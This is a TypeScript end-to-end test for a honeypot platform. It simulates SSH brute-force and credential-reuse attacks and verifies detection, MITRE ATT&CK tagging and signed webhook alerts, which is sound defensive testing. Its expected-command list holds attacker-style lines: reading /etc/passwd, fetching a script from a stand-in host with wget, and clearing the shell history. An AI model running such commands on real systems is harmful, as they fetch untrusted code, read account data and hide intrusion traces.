// Issue acceptance, end to end on the grouped layout (`decnet up`, every worker in its process):
// an SSH client fails twice, logs in with the weak password and runs a typical bot command line;
// a second source address tries the same password on another decky. Within 10 s the events, both
// credentials and the reuse record are stored, the attacker record is right, the expected ATT&CK
// techniques are tagged with evidence, and a local webhook receiver got signed alerts.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { CLI_BUILT, waitFor } from '../helpers/env.ts';
import { startFleet, type Fleet } from '../helpers/fleet.ts';
import { BOT_COMMAND, sshAttack } from '../helpers/ssh-attack.ts';
import { openDatabase, type Database } from '../../src/db/connection.ts';
import { getAttackersByIps, getBehaviors } from '../../src/db/attackers/repo.ts';
import { listTagsSince } from '../../src/db/ttp/repo.ts';
import { verifyWebhook } from '../../src/notify/webhook-sign.ts';

const run = promisify(execFile);
const SECRET = 'grouped-e2e-receiver-secret-0123456789';

let fleet: Fleet;
let receiver: Server;
const received: { headers: IncomingHttpHeaders; body: string }[] = [];
let db: Database;

before(async () => {
  receiver = createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8');
    req.on('data', (d) => (body += d));
    req.on('end', () => {
      received.push({ headers: req.headers, body });
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
  fleet = await startFleet({ deckies: '[web]\nservices = ssh\n\n[web.ssh]\nfail_delay_ms = 0\n\n[files]\nservices = ssh\n\n[files.ssh]\nfail_delay_ms = 0\n' });
  const port = (receiver.address() as AddressInfo).port;
  await run(process.execPath, [CLI_BUILT, 'webhook', 'add', '--url', `http://127.0.0.1:${port}/alerts`, '--events', 'ttp.tagged,credential.reuse.detected', '--secret', SECRET, '--allow-private', '--name', 'soc'], { env: fleet.env });
  db = await openDatabase(fleet.env.DECNET_DB_URL);
});

after(async () => {
  await db?.close();
  await fleet?.stop();
  receiver?.close();
});

test('an SSH attack and a credential reused from a second address become the whole picture within 10 s', { timeout: 120_000 }, async () => {
  try {
    await scenario();
  } catch (err) {
    // The processes' logs are the first thing a reader of a failure needs.
    process.stderr.write(fleet.logs() + '\n');
    throw err;
  }
});

async function scenario(): Promise<void> {
  assert.equal(fleet.deckies.length, 2);
  const [web, files] = fleet.deckies;
  const first = `${fleet.net}.201`;
  const second = `${fleet.net}.202`;
  // `webhook add` announced the subscription on the bus; wait until the webhook worker reports it
  // loaded (its heartbeat fields land in the herd process's state file).
  await waitFor(() => {
    try {
      const herd = JSON.parse(readFileSync(join(fleet.env.DECNET_RUN_DIR!, 'hosts', 'herd.json'), 'utf8')) as { workers: { name: string; extra?: { subscriptions?: number } }[] };
      return (herd.workers.find((w) => w.name === 'webhook')?.extra?.subscriptions ?? 0) >= 1;
    } catch {
      return false;
    }
  }, 10_000, 'the webhook worker to load the new subscription');

  await sshAttack({ host: web.ip, from: first }, ['letmein', 'toor', 'admin'], BOT_COMMAND);
  await sshAttack({ host: files.ip, from: second }, ['admin']);
  const attacked = Date.now();

  // Events, both credentials and the reuse record.
  const reuse = await waitFor(async () => {
    const rows = await db.kysely.selectFrom('credential_reuse').selectAll().execute();
    return rows.find((r) => JSON.stringify(r.attacker_ips).includes(first) && JSON.stringify(r.attacker_ips).includes(second));
  }, 10_000, 'the credential reuse record');
  const deckies = JSON.stringify(reuse.deckies);
  assert.ok(deckies.includes(web.name) && deckies.includes(files.name), `reuse spans both deckies: ${deckies}`);

  const creds = await db.kysely.selectFrom('credentials').selectAll().where('attacker_ip', 'in', [first, second]).execute();
  const admin = creds.filter((c) => Buffer.from(c.secret_b64, 'base64').toString() === 'admin');
  assert.deepEqual(admin.map((c) => `${c.attacker_ip}/${c.decky_name}/${c.principal}`).sort(), [`${first}/${web.name}/root`, `${second}/${files.name}/root`].sort());

  const events = await db.kysely.selectFrom('logs').select(['event_type']).where('attacker_ip', '=', first).execute();
  const kinds = new Set(events.map((e) => e.event_type));
  for (const k of ['connect', 'auth_attempt', 'command', 'download', 'disconnect']) assert.ok(kinds.has(k), `event ${k} stored for ${first}`);

  // The attacker record and its behaviour.
  const attacker = await waitFor(async () => {
    const row = (await getAttackersByIps(db, [first])).get(first);
    return row && JSON.stringify(row.commands).includes('history -c') ? row : undefined;
  }, 10_000 - (Date.now() - attacked), 'the attacker record with its commands');
  assert.deepEqual(attacker.services, ['ssh']);
  assert.deepEqual(attacker.deckies, [web.name]);
  const commands = JSON.stringify(attacker.commands);
  for (const c of ['uname -a', 'cat /etc/passwd', 'wget http://198.51.100.7/x.sh', 'history -c']) assert.ok(commands.includes(c), `command ${c} in the attacker record`);
  const behaviour = await waitFor(async () => (await getBehaviors(db, [attacker.uuid])).get(attacker.uuid)?.behavior_class ?? undefined, 5_000, 'a behaviour class');
  assert.match(behaviour, /\w/);

  // ATT&CK techniques with evidence.
  const tags = await waitFor(async () => {
    const rows = await listTagsSince(db, {});
    const have = new Set(rows.map((r) => r.sub_technique_id ?? r.technique_id));
    return ['T1110', 'T1078', 'T1082', 'T1105', 'T1070.003'].every((t) => have.has(t)) ? rows : undefined;
  }, Math.max(1_000, 10_000 - (Date.now() - attacked)), 'the expected techniques');
  for (const t of ['T1110', 'T1078', 'T1082', 'T1105', 'T1070.003']) {
    const tag = tags.find((r) => (r.sub_technique_id ?? r.technique_id) === t)!;
    assert.ok(tag.evidence && JSON.stringify(tag.evidence).length > 20, `${t} carries evidence`);
  }
  assert.ok(Date.now() - attacked < 10_000, `all of it within 10 s (took ${Date.now() - attacked} ms)`);

  // Signed webhook alerts, verified by the receiver.
  await waitFor(
    () => received.some((r) => r.body.includes('ttp.tagged')) && received.some((r) => r.body.includes('credential.reuse.detected')),
    10_000,
    'a ttp.tagged and a credential.reuse.detected alert',
  );
  for (const r of received) {
    assert.ok(verifyWebhook(SECRET, r.headers['x-decnet-timestamp'] as string, r.body, r.headers['x-decnet-signature'] as string), 'the signature verifies');
  }
}
